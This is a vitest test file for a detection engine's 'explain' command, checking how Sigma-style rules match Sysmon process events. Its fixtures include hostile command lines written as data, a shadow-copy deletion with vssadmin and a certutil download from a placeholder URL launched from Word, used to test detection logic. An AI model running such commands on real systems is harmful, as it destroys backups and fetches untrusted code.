import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { explainCommand } from '../../engine/cli/explain.js';
import { runCli } from '../helpers/cli-io.js';
import { repoRoot } from '../helpers/rules.js';

const rules = path.join(repoRoot, 'rules');
const sysmon = { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS1', User: 'CORP\\a' };

describe('sigstream explain', () => {
  it('explains a pack rule by title on an inline event', async () => {
    const event = { ...sysmon, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -dump x.cer' };
    const run = await runCli(explainCommand, ['--rules', rules, '--rule', 'Certutil Used to Download a File', JSON.stringify(event)]);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('search selection_verb: ✗');
    expect(run.stdout).toContain('because selection_verb, selection_url did not match (all of selection_* needed)');
    expect(run.stdout).toContain('result: NO MATCH (condition is false)');
  });

  it('explains a rule file on an NDJSON input, --event picking one, --json for machines', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'sigstream-explain-'));
    const input = path.join(dir, 'in.ndjson');
    writeFileSync(input, [{ ...sysmon, Image: 'C:\\x\\notepad.exe' }, { ...sysmon, Image: 'C:\\Windows\\System32\\vssadmin.exe', CommandLine: 'vssadmin delete shadows /all' }].map((e) => JSON.stringify(e)).join('\n') + '\n');
    const file = path.join(rules, 'windows/process_creation/proc_creation_win_shadow_copy_deletion.yml');
    const run = await runCli(explainCommand, ['--rules', rules, '--rule', file, '--event', '2', '--json', input]);
    const doc = JSON.parse(run.stdout);
    expect(doc.events).toBe(2);
    expect(doc.detections[0].explained).toHaveLength(1);
    expect(doc.detections[0].explained[0]).toMatchObject({ event: 2, matched: true });
  });

  it('for a correlation, lists base hits per group and the fullest window against the threshold', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'sigstream-explain-'));
    const input = path.join(dir, 'in.ndjson');
    const tools = ['whoami', 'systeminfo', 'ipconfig'];
    writeFileSync(input, tools.map((t, i) => JSON.stringify({ ...sysmon, UtcTime: `2026-11-20 09:15:0${i}.000`, Image: `C:\\Windows\\System32\\${t}.exe` })).join('\n') + '\n');
    const run = await runCli(explainCommand, ['--rules', rules, '--rule', 'Burst of Discovery Commands From One User', input]);
    expect(run.stdout).toContain('event_count: Burst of Discovery Commands From One User');
    expect(run.stdout).toContain('references: win_discovery_command');
    expect(run.stdout).toContain('group {"Computer":"WS1","User":"CORP\\\\a"}: 3 base hits');
    expect(run.stdout).toContain('fullest window: 3 hits');
    expect(run.stdout).toContain('fired: never');
  });

  it('for a sequence, shows each step\'s base hits by join key and the chain that fired', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'sigstream-explain-'));
    const input = path.join(dir, 'in.ndjson');
    const shell = { ...sysmon, UtcTime: '2026-11-20 10:00:00.000', ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', Image: 'C:\\Windows\\System32\\cmd.exe', ProcessGuid: '{p1}' };
    const child = { ...sysmon, UtcTime: '2026-11-20 10:00:05.000', ParentProcessGuid: '{p1}', ProcessGuid: '{c1}', Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a a' };
    writeFileSync(input, [shell, child].map((e) => JSON.stringify(e)).join('\n') + '\n');
    const run = await runCli(explainCommand, ['--rules', rules, '--rule', 'Office-Spawned Shell Starts a Download Tool', input]);
    expect(run.stdout).toContain('references: step office_shell: win_office_spawns_shell; step download_tool (inline detection)');
    expect(run.stdout).toContain('group {"ProcessGuid":"{p1}"}: 2 base hits');
    expect(run.stdout).toMatch(/fired: \{"ProcessGuid":"\{p1\}"\} .* events 1, 2/);
  });

  it('an unknown rule is a usage error', async () => {
    const run = await runCli(explainCommand, ['--rules', rules, '--rule', 'No Such Rule', '{}']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("no rule 'No Such Rule'");
  });
});
